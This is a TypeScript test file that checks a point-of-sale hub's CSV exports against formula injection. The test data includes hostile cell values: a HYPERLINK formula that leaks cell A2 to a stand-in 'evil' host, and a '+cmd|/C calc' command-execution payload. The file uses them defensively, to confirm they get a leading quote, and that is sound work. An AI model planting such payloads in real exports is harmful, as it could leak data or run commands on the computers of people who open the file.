/**
 * CSV formula injection (issue 30 point 7, CONTRACT §12 "Exports"): a cell whose text begins with
 * `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`; numbers the hub
 * wrote (negative ones included) stay numbers. The helper itself, and the sales CSV it serves.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvLine, csvNumber } from '../../hub/core/csv.js';
import { startHub, type TestHub } from '../support/hub.js';
import { expect2xx, item, register, restaurant } from '../tickets/fixture.js';

/** RFC 4180 cells of one CSV text (quotes, doubled quotes, separators and line breaks inside quotes). */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('the CSV helper', () => {
  it('neutralises text a spreadsheet would run, and only that', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+420 123')).toBe("'+420 123");
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('Pivo = 12°')).toBe('Pivo = 12°');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
  });

  it('writes numbers the hub wrote as they are, negative ones included', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(csvNumber('-12,50'), ';')).toBe('-12,50');
    expect(csvCell(csvNumber('-12,50'), ',')).toBe('"-12,50"');
    // Text never passes as a number.
    expect(() => csvNumber('=1+1')).toThrow(TypeError);
    expect(() => csvNumber('-1e3')).toThrow(TypeError);
  });

  it('quotes the separator, quotes and line breaks, after neutralising', () => {
    expect(csvCell('=HYPERLINK("http://evil/?x="&A2,"Open")')).toBe(`"'=HYPERLINK(""http://evil/?x=""&A2,""Open"")"`);
    expect(csvLine(['a;b', 'c'], ';')).toBe('"a;b";c');
    expect(csvDocument([['x', 1]], { bom: true })).toBe('\uFEFFx,1\r\n');
  });
});

describe('the sales CSV', () => {
  let hub: TestHub;
  const HOSTILE = ['=HYPERLINK("http://evil/?x="&A2,"Open")', '@SUM(1+1)', '+cmd|/C calc', '-2+3', '\t=1+2'];

  beforeAll(async () => {
    hub = await startHub();
    await restaurant(hub);
    for (const [i, name] of HOSTILE.entries()) {
      await expect2xx(hub.call('POST', '/api/plus', { code: 100 + i, stockName: 'Menu', name, type: 'Service', unitPrice: { amount: 1 }, vatInfo: { category: 1, rate: 20 } }));
    }
    const a = await register(hub);
    // Five hostile plus at 1.00 and a returned water (0.10): the returns figure is negative.
    const t = await expect2xx(hub.call('POST', '/api/tickets', { items: [...HOSTILE.map((_, i) => item(100 + i, 1)), item(4, 1, { type: 'Negative' })] }, { token: a.token }));
    await expect2xx(hub.call('POST', `/api/tickets/${t.id}/close`, { payments: [{ paymentTypeNumber: 1, amount: 4.9 }] }, { token: a.token }));
  });
  afterAll(() => hub.close());

  for (const lang of ['sk', 'en'] as const) {
    it(`writes every hostile name with a leading ' and keeps the figures numbers (${lang})`, async () => {
      const r = await fetch(`${hub.url}/api/reports/sales?from=2026-11-21&to=2026-11-21&groupBy=product&format=csv`, {
        headers: { authorization: `Bearer ${hub.adminToken}`, 'accept-language': lang },
      });
      expect(r.status).toBe(200);
      const separator = lang === 'en' ? ',' : ';';
      const rows = parseCsv((await r.text()).replace(/^\uFEFF/, ''), separator);
      const labels = rows.slice(1, -1).map((row) => row[1]);
      for (const name of HOSTILE) expect(labels).toContain(`'${name}`);
      expect(labels).toContain('Voda');
      // No cell a spreadsheet would run: every text cell beginning with a formula character is neutralised,
      // and the figures (the returned water's are negative) are plain numbers.
      const figures = rows.slice(1).flatMap((row) => row.slice(2));
      expect(figures.every((f) => /^-?\d+([.,]\d+)?$/.test(f)), figures.join(' ')).toBe(true);
      expect(figures.some((f) => f.startsWith('-'))).toBe(true);
      const texts = rows.flatMap((row) => row.slice(0, 2));
      expect(texts.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    });
  }
});
